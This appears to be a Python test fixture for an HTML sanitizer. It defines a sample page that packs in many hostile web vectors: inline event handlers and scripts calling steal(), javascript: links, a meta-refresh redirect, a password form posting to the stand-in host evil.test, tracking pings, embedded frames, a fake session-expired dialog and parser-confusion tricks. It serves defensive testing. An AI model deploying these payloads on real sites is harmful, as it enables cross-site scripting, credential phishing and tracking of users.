"""A page that tries what a page can try on whoever looks at it."""

# One of each thing that a page could do: run, load, lead away, connect ahead, send, or pretend.
HOSTILE = """<!doctype html><html onload="steal()" manifest="/m"><head><title>خبر</title>
<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">
<link rel=preconnect href="https://evil.test"><link rel="stylesheet" href="https://evil.test/a.css">
<script>steal()</script><script src="https://evil.test/a.js"></script>
<style>body{color:red}</style><style>a{}<!--</style><link rel=dns-prefetch href="//evil.test">--></head>
<body background="https://evil.test/b.png"><!--><img src=x onerror=steal()>-->
<p onclick="steal()" style="color:green">نص الخبر</p>
<a href="https://evil.test/" ping="https://evil.test/p" target="_top">further</a><a href="javascript:steal()">here</a>
<img src="https://evil.test/i.png" srcset="https://evil.test/i2.png 2x" alt="a picture">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="its own"><img src="data:image/svg+xml;base64,PHN2Zz4=">
<form action="https://evil.test/"><input name=password><button formaction="https://evil.test/">Log in</button></form>
<iframe src="https://evil.test/f"></iframe><object data="https://evil.test/o"></object><embed src="https://evil.test/e">
<video poster="https://evil.test/v" autoplay><source src="https://evil.test/s"></video>
<audio src="https://evil.test/u"></audio>
<svg><script>steal()</script><image href="https://evil.test/x"/></svg><math><mi xlink:href="javascript:steal()">x</mi>
</math>
<template><script>steal()</script></template><noscript><p>read without scripts</p><img src="https://evil.test/n"></noscript>
<dialog open>Session expired</dialog><xmp><script>steal()</script></xmp><portal src="https://evil.test"></portal>
</body></html>"""
